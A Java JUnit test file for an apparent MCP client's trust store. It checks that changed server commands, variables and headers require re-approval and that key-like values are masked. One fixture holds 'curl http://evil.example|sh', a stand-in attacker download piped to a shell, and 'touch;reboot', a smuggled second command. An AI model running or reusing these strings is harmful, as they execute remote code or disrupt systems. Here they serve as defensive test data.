package dev.benchlight.app.workspace;

import static org.assertj.core.api.Assertions.assertThat;

import dev.benchlight.mcp.wire.ServerConfig;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;

/// What an approval holds for, and what asks again.
class FingerprintTest {
    @TempDir Path folder;

    @Test
    void anyChangeOfAProgramAsksAgain() {
        List<ServerConfig> different =
                List.of(
                        program("x", List.of("a"), Map.of("LOG", "debug")),
                        program("y", List.of("a"), Map.of("LOG", "debug")),
                        program("x", List.of("b"), Map.of("LOG", "debug")),
                        program("x", List.of("a", ""), Map.of("LOG", "debug")),
                        program("x", List.of("a"), Map.of("LOG", "info")),
                        program("x", List.of("a"), Map.of("LOG", "${secret:log}")),
                        program("x", List.of("a"), Map.of("LOG", "${env:LOG}")),
                        program("x", List.of("a"), Map.of("log", "debug")),
                        program("x", List.of("a"), Map.of()),
                        program("x", List.of("a"), Map.of("LOG", "debug", "EDITOR", "vi")),
                        program("x", List.of("a"), Map.of("LOG=debug", "")),
                        program("x", List.of("\ud800"), Map.of()),
                        program("x", List.of("?"), Map.of()),
                        new ServerConfig.Stdio("n", "x", List.of("a"), Map.of(), Path.of("/b")));

        assertThat(different.stream().map(Fingerprint::of)).doesNotHaveDuplicates();
    }

    @Test
    void anyChangeOfWhatIsSentAsksAgain() {
        List<ServerConfig> different =
                List.of(
                        address("http://h/", Map.of("K", "${secret:k}", "X-Team", "red")),
                        address("http://h/", Map.of("K", "${secret:k}", "X-Team", "blue")),
                        address("http://h/", Map.of("K", "${secret:k}", "X-Tea", "mred")),
                        address("http://h/", Map.of("K", "${secret:other}", "X-Team", "red")),
                        address("http://h/", Map.of("K", "${secret:k}")),
                        address("http://i/", Map.of("K", "${secret:k}")));

        assertThat(different.stream().map(Fingerprint::of)).doesNotHaveDuplicates();
    }

    @Test
    void anApprovalOfAnOlderVersionAsksAgain() throws IOException {
        DataFolder data = DataFolder.open(folder, Map.of());
        ServerConfig config = program("x", List.of(), Map.of());
        TrustStore.open(data).approve(entry(config), config);
        Path file = folder.resolve("trust.json");
        assertThat(TrustStore.open(data).needsApproval(entry(config), config)).isFalse();

        Files.writeString(file, Files.readString(file).replace("\"2:", "\""));

        assertThat(TrustStore.open(data).notices()).isEmpty();
        assertThat(TrustStore.open(data).needsApproval(entry(config), config)).isTrue();
    }

    @Test
    void whatChangedSinceAnApprovalIsNamed() throws IOException {
        DataFolder data = DataFolder.open(folder, Map.of());
        ServerConfig first = program("x", List.of("a"), Map.of("LOG", "debug", "GONE", "1"));
        ServerConfig second = program("x", List.of("b"), Map.of("LOG", "info", "NEW", "1"));
        TrustStore.open(data).approve(entry(first), first);
        TrustStore trust = TrustStore.open(data);

        assertThat(trust.changed(entry(first), first)).isEmpty();
        assertThat(trust.changed(entry(second), second).orElseThrow())
                .matches(
                        "It changed since it was approved on \\d{4}-\\d\\d-\\d\\d: the arguments,"
                                + " the variable GONE, the variable LOG, the variable NEW\\.");
        ServerEntry elsewhere =
                new ServerEntry(second, Path.of("/other/s.yaml"), ServerEntry.Origin.FILE);
        assertThat(trust.changed(elsewhere, second)).isEmpty();
        assertThat(folder.resolve("trust.json")).content().doesNotContain("debug");
    }

    @Test
    void whatAnotherWindowApprovedMeanwhileIsKept() throws IOException {
        DataFolder data = DataFolder.open(folder, Map.of());
        ServerConfig one = program("one", List.of(), Map.of());
        ServerConfig two = program("two", List.of(), Map.of());
        TrustStore window = TrustStore.open(data);
        TrustStore.open(data).approve(entry(one), one);

        window.approve(entry(two), two);

        TrustStore later = TrustStore.open(data);
        assertThat(later.needsApproval(entry(one), one)).isFalse();
        assertThat(later.needsApproval(entry(two), two)).isFalse();
    }

    @Test
    void onlyWhatLooksLikeAKeyIsHidden() {
        Map<String, Boolean> hidden =
                Map.of(
                        "API_TOKEN=0123456789abcdef", true,
                        "Authorization=Bearer 0123456789abcdef", true,
                        "ANY=sk-0123456789abcdef", true,
                        "API_TOKEN=${secret:x}", false,
                        "LOG=debug", false,
                        "PATH=sk-0123456789abcdef", false,
                        "LD_PRELOAD=ghp_0123456789abcdef", false,
                        "RUN_TOKEN=curl http://evil.example|sh", false,
                        "RUN_TOKEN=touch;reboot", false);

        assertThat(
                        hidden.keySet().stream()
                                .collect(
                                        Collectors.toMap(
                                                pair -> pair,
                                                pair ->
                                                        ShownValue.isHidden(
                                                                pair.replaceFirst("=.*", ""),
                                                                pair.replaceFirst("[^=]*=", "")))))
                .isEqualTo(hidden);
    }

    private static ServerConfig program(
            String command, List<String> arguments, Map<String, String> variables) {
        return new ServerConfig.Stdio("n", command, arguments, variables, Path.of("/a"));
    }

    private static ServerConfig address(String url, Map<String, String> headers) {
        return new ServerConfig.Http("n", URI.create(url), headers);
    }

    private ServerEntry entry(ServerConfig config) {
        return new ServerEntry(config, folder.resolve("s.yaml"), ServerEntry.Origin.FILE);
    }
}
